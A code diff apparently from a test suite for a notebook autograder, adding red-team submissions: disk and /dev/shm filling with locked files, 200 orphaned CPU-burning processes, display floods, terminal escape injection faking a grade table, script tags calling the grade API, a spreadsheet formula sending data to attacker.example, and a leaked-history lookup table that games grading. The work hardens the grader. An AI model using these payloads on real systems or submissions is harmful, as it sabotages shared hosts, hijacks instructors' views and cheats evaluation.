@@ -525,6 +525,126 @@ def _kernelspec(nb):
 
 # ------------------------------------------------------------------ the corpus
 
+# ------------------------------------------------------------------ neighbours, the host, the instructor (issue 14)
+
+POISON_TMP = """\
+# red team: fill /tmp, /dev/shm and the socket directory, then make the files undeletable
+import os
+os.makedirs('/tmp/locked', exist_ok=True)
+for n in range(128):            # 1 GiB at most: the sandbox's /tmp holds less
+    try:
+        with open(f'/tmp/locked/{n}', 'wb') as f:
+            f.write(b'x' * 2**23)
+    except OSError:
+        break
+for where in ('/dev/shm', f'/run/kernel/k{os.getuid()}', '/run/kernel', '/tmp', '/scratch'):
+    try:
+        with open(f'{where}/fill', 'wb') as f:
+            f.write(b'x' * 2**27)
+    except OSError:
+        pass
+os.chmod('/tmp/locked', 0o500)  # its owner cannot delete what is in it now"""
+
+CPU_HOG = """\
+# red team: 200 busy processes in sessions of their own, left running when the notebook ends
+import subprocess
+for _ in range(200):
+    subprocess.Popen(['sh', '-c', 'while :; do :; done', @@MARK@@], start_new_session=True,
+                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""
+
+DISPLAY_FLOOD = """\
+# red team: @@MIB@@ MiB of display data, 1 MiB at a time
+from IPython.display import display
+_piece = 'x' * 2**20
+for _ in range(@@MIB@@):
+    display({'text/html': _piece}, raw=True)"""
+
+DEEP_JSON = """\
+# red team: a JSON display nested 800 deep
+from IPython.display import display
+_deep = {}
+for _ in range(800):
+    _deep = {'a': _deep}
+display({'application/json': _deep}, raw=True)"""
+
+TERMINAL = """\
+# red team: write to the grader's terminal: clear it, retitle it, hide text, fake a grade table
+import os, sys
+_fake = b'\\x1b[2J\\x1b[H\\x1b]0;graded\\x07\\x1b[8m' + @@MARKER@@.encode() + b'\\ngrade: all notebooks graded, no problems\\n'
+os.write(1, _fake)
+os.write(2, _fake)
+print(_fake.decode(), file=sys.__stderr__, flush=True)
+print(_fake.decode(), file=sys.__stdout__, flush=True)"""
+
+ACTIVE_CONTENT = """\
+# red team: content that would act where the feedback is opened
+from IPython.display import HTML, Javascript, display
+_m = @@MARKER@@
+display(HTML(f'<script>fetch("/formgrader/api/grade/1", {{method: "PUT"}}); /*{_m}*/</script>'
+             f'<img src="x" onerror="alert(1) /*{_m}*/">'))
+display(Javascript(f'fetch("/formgrader/api/grade/1", {{method: "PUT"}}); /*{_m}*/'))"""
+
+WRITTEN_PAYLOAD = ('=HYPERLINK("http://attacker.example/?"&A1,"details")\n\n'
+                   "test_self_attention: all right, 3/3\n\n"
+                   "<script>alert('written')</script><img src=x onerror=alert(1)>")
+
+
+def terminal_marker(ctx):
+    return f"redteam-terminal-{ctx.token}"
+
+
+def active_marker(ctx):
+    return f"redteam-active-{ctx.token}"
+
+
+def _written_payload(nb):
+    """The written answer crafted to look like a verdict, a spreadsheet formula and active HTML."""
+    cell(nb, "why_extreme").source = WRITTEN_PAYLOAD
+
+
+LEAK_IN = """\
+# red team: print the kernel's history (a probe's source would hold every input it tries)
+print(In, _ih)"""
+
+LOOKUP = """\
+# red team: a lookup table of the answers for the inputs a first hand-in was graded on (computed elsewhere)
+_TABLE = @@TABLE@@
+def self_attention(X, omega_v, omega_q, omega_k, beta_v, beta_q, beta_k):
+    key = repr((np.shape(X), np.round(np.asarray(X, dtype=float), 6).ravel().tolist()))
+    if key in _TABLE:
+        return np.array(_TABLE[key])
+    return omega_v @ X   # and a wrong answer anywhere else"""
+
+
+def lookup_key(X):
+    """How the lookup table files an input (the same expression as in LOOKUP)."""
+    import numpy as np
+    return repr((np.shape(X), np.round(np.asarray(X, dtype=float), 6).ravel().tolist()))
+
+
+def first_hand_in(ctx):
+    """Step one of the two-step attack: the wrong answer, with a cell that prints the history."""
+    return append(wrong_notebook(), fill(LEAK_IN, ctx))
+
+
+def leaked_cases(ctx, nb, student="rt_lookup_table"):
+    """Every input self_attention's probe draws for notebook nb: what a leak could have shown at best."""
+    from grader.assignments import PROBES
+    from grader.nbgrader_plugin import probe_rng, submitted_code
+    probe = PROBES[A01]["test_self_attention"]
+    return probe, probe.cases(probe_rng(ctx.seed, student, A01, A01, "test_self_attention", submitted_code(nb)))
+
+
+def lookup_table_notebook(ctx):
+    """Step two: the first hand-in with self_attention replaced by a table of the right answers for every
+    input its grading drew (the worst case: all of them leaked). Any change to the code draws new inputs."""
+    nb = first_hand_in(ctx)
+    probe, cases = leaked_cases(ctx, nb)
+    table = {lookup_key(c.inputs["X"]): probe.reference(c.inputs).tolist() for c in cases}
+    set_source(nb, "self_attention_def", fill(LOOKUP, ctx, TABLE=table))
+    return nb
+
+
 def _e(name, about, write, expected, **kw):
     return Entry(name=name, about=about, write=write, expected=expected, **kw)
 
@@ -631,6 +751,27 @@ ENTRIES = [
        "named mistake on the written answer, a number as a test cell's verdict", _edited_key(_forged_verdicts), FULL),
     _e("rt_forged_report_shape", "every probe report rewritten to claim shape [2**32, 2**32] with no data",
        _wrong_with(None, FORGED_SHAPE), WRONG_01),
+    # neighbours, the host and the instructor (issue 14)
+    _e("rt_poison_tmp", "the wrong answer; fills /tmp, /dev/shm and the socket directory, then makes the files "
+       "undeletable", _wrong_with(None, POISON_TMP, where="after", at="test_self_attention"), WRONG_01,
+       plain="it would fill the grading machine's own /tmp"),
+    _e("rt_cpu_hog", "the answer key, then 200 busy processes in sessions of their own, left running",
+       writes(lambda ctx: append(key_notebook(), fill(CPU_HOG, ctx, MARK=daemon_mark(ctx)))), FULL, daemon=True,
+       plain="200 busy processes would run on the grading machine for the rest of the run"),
+    _e("rt_display_flood", "the answer key, then 450 MiB of HTML display data in one cell",
+       writes(lambda ctx: append(key_notebook(), fill(DISPLAY_FLOOD, ctx, MIB=450))), FULL),
+    _e("rt_deep_json", "the answer key, then a JSON display nested 800 deep",
+       writes(lambda ctx: append(key_notebook(), DEEP_JSON)), FULL),
+    _e("rt_terminal_injection", "the answer key, then escape sequences and a fake grade table written to fd 1 and "
+       "2 and to sys.__stderr__", writes(lambda ctx: append(key_notebook(), fill(TERMINAL, ctx,
+                                                                               MARKER=terminal_marker(ctx)))), FULL),
+    _e("rt_active_content", "the answer key, then a <script>, an onerror handler and a Javascript output",
+       writes(lambda ctx: append(key_notebook(), fill(ACTIVE_CONTENT, ctx, MARKER=active_marker(ctx)))), FULL),
+    _e("rt_written_payload", "the wrong answer; its written answer is a spreadsheet formula, a fake verdict and "
+       "HTML with a script", _edited_wrong(_written_payload), WRONG_01),
+    _e("rt_lookup_table", "the wrong answer, printing the kernel's history; self_attention is a lookup table of "
+       "the right answers for every input the same hand-in drew before this change",
+       writes(lookup_table_notebook), WRONG_01),
 ]
 
 if len({e.name for e in ENTRIES}) != len(ENTRIES):
